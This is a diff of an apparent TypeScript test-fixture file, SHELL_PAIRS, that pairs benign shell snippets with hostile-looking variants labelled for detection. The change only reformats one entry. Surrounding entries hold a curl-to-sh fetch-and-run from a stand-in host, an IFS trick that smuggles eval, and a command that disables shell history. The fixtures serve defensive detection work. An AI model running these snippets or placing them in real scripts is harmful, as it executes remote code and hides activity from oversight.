@@ -112,12 +112,7 @@ export const SHELL_PAIRS: readonly Pair[] = [
     `if [ -n "$1" ]; then IFS=; fi\nget="curl -s https://x.example.net/a"\n$get | sh\n`,
     "fetch-and-run",
   ],
-  [
-    "a word of nothing between two separators",
-    `IFS=,\nx="a,,ls"\nset -- $x\n"$3"\n`,
-    `IFS=,\nx="a,,eval"\nset -- $x\n$3 "$4$UNSEEN"\n`,
-    "dynamic-code",
-  ],
+  ["a word of nothing between two separators", `IFS=,\nx="a,,ls"\nset -- $x\n"$3"\n`, `IFS=,\nx="a,,eval"\nset -- $x\n$3 "$4$UNSEEN"\n`, "dynamic-code"],
   ["options switched off, and the history among them", `set +e +o posix\nset -o vi\n`, `set +eo history\n`, "command-hidden"],
   [
     "a download for this kind of machine, and the name of the machine on its way out",
